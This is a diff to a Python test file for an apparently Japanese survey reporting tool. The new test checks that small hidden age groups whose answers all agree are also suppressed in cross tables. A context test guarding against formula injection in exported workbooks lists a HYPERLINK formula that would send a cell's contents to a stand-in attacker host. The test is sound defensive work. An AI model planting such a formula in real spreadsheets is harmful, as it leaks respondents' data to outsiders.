@@ -383,6 +383,22 @@ def test_a_report_of_a_survey_whose_letters_were_made_here_renders(session, surv
     assert "– : " in section.split("</table>")[1][:200]  # the dash explained below the open table
 
 
+def test_hidden_groups_that_all_agree_are_protected_in_the_cross_tables_as_on_the_dashboard(session, instrument):
+    """18〜29 (answers 1, 2, 1) and 30〜39 (six 1s, six 2s) hidden: safe answer by answer, yet all 15 agree
+    (1 or 2) — and 全体 minus the printed rows said so. The dashboard hid 40〜49 as well; the report did not."""
+    mixed = [1, 2, 3, 4, 9]
+    rows = ([{"kurashiyasui": k, "age_band": 1} for k in (1, 2, 1)]
+            + [{"kurashiyasui": 1 + i % 2, "age_band": 2} for i in range(12)]
+            + [{"kurashiyasui": mixed[i % 5], "age_band": band} for band, n in ((3, 15), (4, 25), (5, 25), (6, 25))
+               for i in range(n)])
+    responses.bulk_complete(session, instrument, [{**r, "sex": 1, "district": 1} for r in rows], channel="paper",
+                            source="invited")
+    report = build_report(session, instrument, "none", "ja")
+    cross = next(c for c in report.crosses if c.by == "age_band" and c.table.question.id == "kurashiyasui")
+    hidden = [row.label for row in cross.rows[1:] if row.flag == "suppressed"]
+    assert hidden[:3] == ["18〜29歳", "30〜39歳", "40〜49歳"]
+
+
 def test_a_comment_that_looks_like_a_formula_stays_text_in_the_workbook(session, surveyed):
     """A resident's 「=HYPERLINK(…)」 became a live formula in the 自由意見 sheet (openpyxl's default)."""
     typed = ['=HYPERLINK("https://evil.example/?c="&D2,"詳しくはこちら")', "=1+2\x01", "@SUM(A1)"]
